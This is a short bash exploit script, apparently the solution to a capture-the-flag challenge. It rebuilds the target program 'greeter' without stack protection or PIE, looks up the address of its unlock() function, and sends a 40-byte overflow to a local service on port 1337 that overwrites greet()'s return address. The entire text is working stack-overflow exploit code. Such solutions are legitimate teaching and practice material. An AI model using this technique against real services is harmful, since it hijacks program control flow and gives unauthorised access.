#!/bin/bash
# Build the same binary locally (same source, same flags, no PIE: same addresses), find unlock(),
# and overwrite greet()'s return address: name[32] + saved rbp (8) + address.
set -euo pipefail
gcc -O0 -fno-stack-protector -no-pie -w -o /tmp/greeter challenge/greeter.c
addr=$(nm /tmp/greeter | awk '$3 == "unlock" {print $1}')
python3 -c "import sys; sys.stdout.buffer.write(b'A' * 40 + int('$addr', 16).to_bytes(8, 'little') + b'\n')" \
  | socat -t5 - TCP:127.0.0.1:1337
